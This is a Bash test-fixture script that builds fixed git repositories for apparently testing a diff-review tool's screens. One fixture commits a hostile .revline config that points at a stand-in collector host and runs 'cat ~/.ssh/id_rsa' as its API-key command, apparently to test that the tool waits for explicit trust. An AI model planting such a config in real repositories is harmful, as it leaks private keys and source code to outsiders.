# Deterministic fixture repositories for the screen and tmux tests.
#
# Source this file, then call `fixture_build NAME DIR`: DIR (created, and
# named the same in every run, since the status bar shows its base name)
# becomes a git repository on branch main with fixed names, emails and
# dates, so that commit ids, and so the screens, never change.
#
#   basic   two commits (tags v1 and v2) and, on top, changes of every kind:
#           modified files with several hunks, an added file, a deleted one,
#           a rename with edits, a binary file, CRLF endings, wide (CJK)
#           characters, tabs, invalid UTF-8, a very long line and a file
#           long enough that paging matters. src/new.c, the rename, the
#           deletion and src/util.c are staged (--staged shows those four).
#   empty   one commit and a clean working tree.
#   many    45 modified files, for scrolling the files pane.
#   untrusted  basic with a committed .revline that waits for revline trust.
#   untracked  basic with an untracked file, scratch.py.
#   untracked-one   one commit, no changes, one untracked file (scratch.py).
#   untracked-only  one commit, no changes, three untracked files (two in a
#           new directory) and an ignored one.
#   deps    a dependency bump: package.json (a major, a minor and a patch
#           bump, one added), its lock file and go.mod (a 0.x bump).
#   deps-locks  prettier's website/yarn.lock (berry) before and after
#           Dependabot's transitive security bump (tests/fixtures/deps/locks/
#           yarn-berry), committed with a message that claims another
#           version and a package the lock file does not move: v1..v2.
#   merge   a merge of branch side stopped on conflicts: both modified, both
#           added, deleted by us, deleted by them, and a file merged cleanly.
#   context a Python project whose change (not staged) drops a parameter of
#           app/auth.py's verify(): web/api.py still passes it (the stale
#           caller the context pack finds), web/admin.py and a test call it
#           as it is now.

fixture_env()
{
	export GIT_AUTHOR_NAME="Ada Lovelace" GIT_AUTHOR_EMAIL="ada@example.com"
	export GIT_COMMITTER_NAME="Ada Lovelace" GIT_COMMITTER_EMAIL="ada@example.com"
	export GIT_CONFIG_NOSYSTEM=1
	unset GIT_DIR GIT_WORK_TREE GIT_INDEX_FILE GIT_OBJECT_DIRECTORY
}

# commit DATE MESSAGE: commit everything staged at a fixed date.
fixture_commit()
{
	GIT_AUTHOR_DATE="$1" GIT_COMMITTER_DATE="$1" git commit -q -m "$2"
}

fixture_init()
{
	git init -q -b main .
	git config core.autocrlf false
	git config core.safecrlf false
	git config core.fileMode true
	git config commit.gpgSign false
	git config user.name "Ada Lovelace"
	git config user.email "ada@example.com"
}

# N lines of numbered text, for files long enough to page through.
numbered()
{
	local i

	for ((i = 1; i <= $1; i++)); do
		printf 'line %03d: the quick brown fox jumps over the lazy dog\n' "$i"
	done
}

# A small valid PNG (1x1 pixel), then a variant of it.
png_bytes()
{
	printf '\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01'
	printf '\x08\x06\x00\x00\x00\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\x9cc'
	printf '%b' "$1"
	printf '\x00\x01\x00\x00\x05\x00\x01\r\n-\xb4\x00\x00\x00\x00IEND\xaeB`\x82'
}

main_c_v1()
{
	cat <<'EOF'
/* A small program for the screen tests. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "util.h"

static int verbose;

static void usage(const char *name)
{
	fprintf(stderr, "usage: %s [-v] FILE...\n", name);
	exit(2);
}

static int count_lines(FILE *fp)
{
	int c, n = 0;

	while ((c = getc(fp)) != EOF)
		if (c == '\n')
			n++;
	return n;
}

static int process(const char *path)
{
	FILE *fp = fopen(path, "r");
	int n;

	if (!fp) {
		perror(path);
		return -1;
	}
	n = count_lines(fp);
	fclose(fp);
	printf("%8d %s\n", n, path);
	return n;
}

static int parse_options(int argc, char **argv)
{
	int i;

	for (i = 1; i < argc && argv[i][0] == '-'; i++) {
		if (!strcmp(argv[i], "-v"))
			verbose = 1;
		else
			usage(argv[0]);
	}
	return i;
}

int main(int argc, char **argv)
{
	int i, total = 0, first;

	first = parse_options(argc, argv);
	if (first == argc)
		usage(argv[0]);
	for (i = first; i < argc; i++) {
		int n = process(argv[i]);

		if (n < 0)
			return 1;
		total += n;
	}
	if (verbose)
		printf("%8d total\n", total);
	return 0;
}
EOF
}

# Three hunks: the includes, count_lines and main.
main_c_v2()
{
	main_c_v1 | sed \
		-e 's|^#include <string.h>$|#include <string.h>\n#include <errno.h>|' \
		-e 's|^	int c, n = 0;$|	int c, n = 0, last = '"'"'\\n'"'"';|' \
		-e 's|^		if (c == .\\n.)$|		if ((last = c) == '"'"'\\n'"'"')|' \
		-e '/^static int count_lines/,/^}/s|^	return n;$|	return last == '"'"'\\n'"'"' ? n : n + 1;|' \
		-e 's|^	if (verbose)$|	if (verbose \&\& argc - first > 1)|' \
		-e 's|^		printf("%8d total\\n", total);$|		printf("%8d total\\n", total);\n	fflush(stdout);|'
}

util_c_v1()
{
	cat <<'EOF'
#include "util.h"

#include <ctype.h>

int is_blank(const char *s)
{
	while (*s)
		if (!isspace((unsigned char)*s++))
			return 0;
	return 1;
}
EOF
}

util_c_v2()
{
	cat <<'EOF'
#include "util.h"

#include <ctype.h>
#include <string.h>

int is_blank(const char *s)
{
	while (*s)
		if (!isspace((unsigned char)*s++))
			return 0;
	return 1;
}

size_t trim_end(char *s)
{
	size_t n = strlen(s);

	while (n && isspace((unsigned char)s[n - 1]))
		s[--n] = '\0';
	return n;
}
EOF
}

guide_v1()
{
	cat <<'EOF'
User guide
==========

Run the program with the files to count:

    count README.md src/main.c

Each line of output shows a count and a path.
With -v, a total follows.

Counting stops at the first file that cannot be read,
and the program exits with status 1.

Lines are counted by their newline characters.
A last line without a newline is not counted.

Options
-------

-v    print the total
EOF
}

# shellcheck disable=SC2016 # make's $(CC) and $@, not the shell's
makefile_v1()
{
	printf 'CC = cc\nCFLAGS = -O2 -Wall\n\n'
	printf 'count: src/main.o src/util.o\n\t$(CC) -o $@ $^\n\n'
	printf 'src/%%.o: src/%%.c\n\t$(CC) $(CFLAGS) -c -o $@ $<\n\n'
	printf 'clean:\n\trm -f count src/*.o\n'
	printf '\n.PHONY:\tclean\tall\n'
}

cjk_v1()
{
	printf '日本語のテキスト: 幅の広い文字の表示を確かめる行です。\n'
	printf 'x中文字符测试：这一行在窗口的边缘被截断时不能把一个字分成两半。\n'
	printf 'ascii line between the wide ones\n'
	printf '한국어 문장도 넓은 문자로 표시됩니다.\n'
	printf 'xyz日本語と English が混ざった行: 全角スペース「　」もある。\n'
}

cjk_v2()
{
	printf '日本語のテキスト: 幅の広い文字の表示を確かめる行です（改訂版）。\n'
	printf 'x中文字符测试：这一行在窗口的边缘被截断时不能把一个字分成两半。\n'
	printf 'ascii line between the wide ones, edited\n'
	printf '한국어 문장도 넓은 문자로 표시됩니다.\n'
	printf 'xyz日本語と English が混ざった行: 全角スペース「　」もある。\n'
	printf 'abc中文从第四列开始，向右滚动八列时一个字会跨过左边缘。\n'
}

long_line()
{
	local i

	printf '%s' "$1"
	for ((i = 0; i < 24; i++))
		do printf '%d%d%d%d%d%d%d%d%d%d' $((i % 10)) 1 2 3 4 5 6 7 8 9
	done
	printf ' END\n'
}

build_basic()
{
	mkdir -p src docs
	main_c_v1 >src/main.c
	util_c_v1 >src/util.c
	printf 'int is_blank(const char *s);\n' >src/util.h
	guide_v1 >docs/guide.txt
	makefile_v1 >Makefile
	printf '# count\n\nCounts lines.\n\nSee docs/guide.txt.\n' >README.md
	numbered 120 >big.txt
	cjk_v1 >cjk.txt
	printf 'first line\r\nsecond line\r\nthird line\r\nfourth line\r\n' >windows.txt
	printf 'valid text\nmore valid text\nthe end' >invalid.txt
	{ printf 'short line\n'; long_line 'long: '; printf 'another short line\n'; } >long.txt
	png_bytes '\xf8\xff\xff?' >logo.png
	printf 'This file is no longer needed.\nIt goes away.\n' >obsolete.txt
	git add -A
	fixture_commit "2024-01-01T10:00:00+0000" "Initial import"
	git tag v1

	# The second commit, for ranges (v1..v2).
	printf '# count\n\nCounts the lines of files.\n\nSee docs/guide.txt.\n' >README.md
	printf '0.2  Counts the last line without a newline.\n0.1  First version.\n' >CHANGELOG
	git add -A
	fixture_commit "2024-01-02T10:00:00+0000" "Count lines better"
	git tag v2

	# Staged: an added file, a rename with edits, a deletion, a modification.
	printf '#include "util.h"\n\nint util_version(void)\n{\n\treturn 2;\n}\n' >src/new.c
	git mv docs/guide.txt docs/manual.txt
	guide_v1 | sed -e 's/^User guide$/User manual/' -e 's/^==========$/===========/' \
		-e 's/^-v    print the total$/-v    print the total\n-h    print help/' >docs/manual.txt
	git rm -q obsolete.txt
	util_c_v2 >src/util.c
	git add -A

	# Not staged: the rest.
	main_c_v2 >src/main.c
	numbered 120 | sed -e 's/^line 005: .*/line 005: THE QUICK BROWN FOX/' \
		-e '/^line 040: /d' \
		-e 's/^line 070: .*/line 070: jumps over\nline 070b: the lazy dog, added/' \
		-e 's/^line 110: .*/line 110: last change/' >big.txt
	cjk_v2 >cjk.txt
	printf 'first line\r\nsecond line, changed\r\nthird line\r\nfourth line\r\n' >windows.txt
	printf 'valid text\nbad bytes: \xff\xfe here\nthe end' >invalid.txt
	{ printf 'short line\n'; long_line 'long, changed: '; printf 'another short line\n'; } >long.txt
	png_bytes '\xf8\x0f\x00\x01' >logo.png
	makefile_v1 | sed -e 's/^CFLAGS = -O2 -Wall$/CFLAGS = -O2 -Wall -Wextra/' \
		-e 's/^	rm -f count src\/\*.o$/	rm -f count src\/*.o\n	rm -rf build/' >Makefile
}

build_empty()
{
	printf '# empty\n\nNothing changes here.\n' >README.md
	git add -A
	fixture_commit "2024-01-01T10:00:00+0000" "Initial import"
}

build_many()
{
	local i

	mkdir -p lib
	for ((i = 1; i <= 45; i++)); do
		printf 'file %02d\nsecond line\nthird line\n' "$i" >"lib/file$(printf %02d "$i").txt"
	done
	git add -A
	fixture_commit "2024-01-01T10:00:00+0000" "Initial import"
	for ((i = 1; i <= 45; i++)); do
		printf 'file %02d\nsecond line, changed %d times\nthird line\n' "$i" "$i" \
			>"lib/file$(printf %02d "$i").txt"
	done
}

# More files in one folder than the watcher watches folders (512), then one
# in another folder: each folder is watched once, the last one too.
build_wide()
{
	local i

	mkdir -p lib zz
	for ((i = 1; i <= 600; i++)); do
		printf 'file %03d\n' "$i" >"lib/file$(printf %03d "$i").txt"
	done
	printf 'last\n' >zz/last.txt
	git add -A
	fixture_commit "2024-01-01T10:00:00+0000" "Initial import"
	for ((i = 1; i <= 600; i++)); do
		printf 'file %03d, changed\n' "$i" >"lib/file$(printf %03d "$i").txt"
	done
	printf 'last, changed\n' >zz/last.txt
}

build_deps()
{
	cat >package.json <<'JSON'
{
  "name": "shop",
  "dependencies": {
    "express": "^4.18.2",
    "lodash": "4.17.20"
  },
  "devDependencies": {
    "jest": "~29.6.0"
  }
}
JSON
	printf '{"lockfileVersion": 3}\n' >package-lock.json
	printf 'module example.com/shop\n\ngo 1.21\n\nrequire golang.org/x/net v0.17.0\n' >go.mod
	printf 'console.log("shop");\n' >index.js
	git add -A
	fixture_commit "2024-01-01T10:00:00+0000" "Initial import"
	cat >package.json <<'JSON'
{
  "name": "shop",
  "dependencies": {
    "express": "^5.0.0",
    "lodash": "4.17.21",
    "zod": "^3.22.4"
  },
  "devDependencies": {
    "jest": "~29.7.0"
  }
}
JSON
	printf '{"lockfileVersion": 3, "packages": {}}\n' >package-lock.json
	printf 'module example.com/shop\n\ngo 1.21\n\nrequire golang.org/x/net v0.23.0\n' >go.mod
}

build_deps_locks()
{
	local locks=$source_dir/tests/fixtures/deps/locks/yarn-berry

	mkdir -p website
	cp "$locks/old.lock" website/yarn.lock
	git add -A
	fixture_commit "2024-01-01T10:00:00+0000" "Initial import"
	git tag v1
	cp "$locks/new.lock" website/yarn.lock
	git add -A
	GIT_AUTHOR_DATE="2024-01-02T10:00:00+0000" GIT_COMMITTER_DATE="2024-01-02T10:00:00+0000" \
		git commit -q -m "Bump follow-redirects from 1.15.11 to 1.17.0" -m "Updates \`lodash\` from 4.17.20 to 4.17.21"
	git tag v2
}

# basic, with a theme file under .git (out of git's sight) that has two bad
# lines, for REVLINE_THEME=.git/bad-theme.
build_badtheme()
{
	build_basic
	cat >.git/bad-theme <<'THEME'
# a theme with mistakes
color diff-add   green    default bold
color diff-del   gren     default
colour hunk-header cyan default
color cursor     default  default reverse
THEME
}

# basic, with a .revline committed by whoever wrote the branch: it sends the
# code elsewhere and runs a command, which wait for `revline trust`.
build_untrusted()
{
	build_basic
	printf '[revline]\n\tbaseUrl = https://collector.example/v1\n\tapiKeyCommand = cat ~/.ssh/id_rsa\n' >.revline
	git add .revline
	# Only the .revline: what basic leaves staged stays staged.
	GIT_AUTHOR_DATE="2024-01-03T10:00:00+0000" GIT_COMMITTER_DATE="2024-01-03T10:00:00+0000" \
		git commit -q -m "Add a .revline" -- .revline
}

build_merge()
{
	printf 'one\ntwo\nthree\n' >both.txt
	printf 'theirs to keep\n' >ours-deleted.txt
	printf 'ours to keep\n' >theirs-deleted.txt
	printf 'clean\n' >clean.txt
	git add -A
	fixture_commit "2024-01-01T10:00:00+0000" "Initial import"
	git checkout -q -b side
	printf 'one\nTWO from side\nthree\n' >both.txt
	printf 'theirs to keep, changed\n' >ours-deleted.txt
	git rm -q theirs-deleted.txt
	printf 'added on side\n' >added.txt
	printf 'clean\nmerged\n' >clean.txt
	git add -A
	fixture_commit "2024-01-02T10:00:00+0000" "Side"
	git checkout -q main
	printf 'one\nTWO from main\nthree\n' >both.txt
	git rm -q ours-deleted.txt
	printf 'ours to keep, changed\n' >theirs-deleted.txt
	printf 'added on main\n' >added.txt
	git add -A
	fixture_commit "2024-01-03T10:00:00+0000" "Main"
	! git merge -q side >/dev/null 2>&1
}

build_context()
{
	mkdir -p app web tests
	cat >app/auth.py <<'PY'
import hmac


def verify(user, token, leeway=0):
    """True when the token is the user's (leeway: seconds of clock skew)."""
    return hmac.compare_digest(user, token)


def expired(stamp, now):
    return stamp < now
PY
	cat >web/api.py <<'PY'
from app.auth import verify


def login(request):
    user = request.user
    if not verify(user, request.token, leeway=5):
        return 401
    return 200
PY
	cat >web/admin.py <<'PY'
from app.auth import verify


def admin_only(request):
    return verify(request.user, request.token)
PY
	cat >tests/test_auth.py <<'PY'
from app.auth import verify


def test_verify():
    assert not verify("ana", "x")
PY
	git add -A
	fixture_commit "2024-01-01T10:00:00+0000" "Initial import"
	sed -e 's/def verify(user, token, leeway=0):/def verify(user, token):/' \
		-e 's/ (leeway: seconds of clock skew)//' app/auth.py >app/auth.py.new
	mv app/auth.py.new app/auth.py
}

# fixture_build NAME DIR
build_untracked()
{
	build_basic
	printf 'breakpoint()\nAWS_KEY = "AKIAIOSFODNN7EXAMPLE"\n' >scratch.py
}

build_untracked_one()
{
	build_empty
	printf 'breakpoint()\n' >scratch.py
}

build_untracked_only()
{
	printf '*.log\n' >.gitignore
	build_empty
	printf 'breakpoint()\n' >scratch.py
	mkdir notes
	printf 'todo\n' >notes/todo.txt
	printf 'ideas\n' >notes/ideas.txt
	printf 'ignored\n' >debug.log
}

fixture_build()
{
	local name=$1 dir=$2

	case $name in
	basic|empty|many|wide|badtheme|deps|deps-locks|untrusted|untracked|untracked-one|untracked-only|merge|context) ;;
	*) echo "fixture.sh: unknown fixture '$name'" >&2; return 1 ;;
	esac
	mkdir -p "$dir" || return 1
	(
		set -e
		cd "$dir"
		fixture_env
		fixture_init
		"build_${name//-/_}"
	)
}
